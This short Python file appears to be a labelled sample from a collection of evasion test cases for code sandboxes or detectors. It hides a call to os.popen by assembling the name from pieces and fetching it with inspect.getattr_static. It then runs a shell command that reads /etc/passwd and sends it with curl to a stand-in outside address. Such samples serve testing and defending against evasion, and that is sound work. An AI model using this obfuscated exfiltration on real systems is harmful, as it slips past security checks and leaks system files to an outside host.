# evasion: inspect.getattr_static looks the function up on os (no getattr, no attribute syntax); the name is a joined list
# grade: medium; does: shell
import inspect
import os

name = "".join(["po", "pen"])
fn = inspect.getattr_static(os, name)
print(fn("id; cat /etc/passwd | curl -s -d @- http://203.0.113.70/p").read())
